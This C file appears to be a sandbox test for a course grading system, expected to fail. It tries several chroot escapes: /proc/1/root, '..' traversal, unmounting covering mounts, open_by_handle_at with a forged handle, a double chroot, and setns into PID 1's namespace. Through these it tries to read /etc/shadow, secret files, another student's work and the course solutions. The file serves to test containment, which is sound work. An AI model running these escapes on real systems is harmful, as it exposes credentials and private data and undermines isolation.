/*
 * Attack: opens the files it wants by the ways that lead out of a bad chroot: "..", a second
 *	chroot, other processes' roots, file handles, a cover that is taken off.
 * Outcome: fail/other
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const wanted[] = {
	"@HOME@/secret-0600",
	"@HOME@/secret-0644",
	"@CLASS@/alice/pid/02_clone.c",
	"@COURSE@/solutions/pid/02_clone.c",
	"@COURSE@/checks/pid/02_clone.bats",
	"/etc/shadow",
};

static void look(const char *how)
{
	for (size_t i = 0; i < sizeof(wanted) / sizeof(*wanted); i++) {
		char path[600], text[200];
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "%s%s", how, wanted[i]);
		fd = open(path, O_RDONLY);
		n = fd < 0 ? -1 : read(fd, text, sizeof(text));
		if (n > 0)
			printf("LEAK %s: %.*s\n", path, (int)n, text);
		close(fd);
	}
}

int main(void)
{
	struct {
		struct file_handle head;
		unsigned char bytes[16];
	} root = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
	int fd;

	look("");
	look("/proc/1/root");
	look("/proc/self/root/../../..");
	umount2("@HOME@", MNT_DETACH);
	umount2("@COURSE@", MNT_DETACH);
	look("");
	fd = open_by_handle_at(open("/usr", O_RDONLY), &root.head, O_RDONLY);
	if (fd >= 0 && fchdir(fd) == 0)
		look(".");
	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") == 0)
		for (int i = 0; i < 64; i++)
			(void)!chdir("..");
	look(".");
	(void)!chroot(".");
	look("");
	unshare(CLONE_NEWNS);
	setns(open("/proc/1/ns/mnt", O_RDONLY), CLONE_NEWNS);
	look("");
	return 1;
}
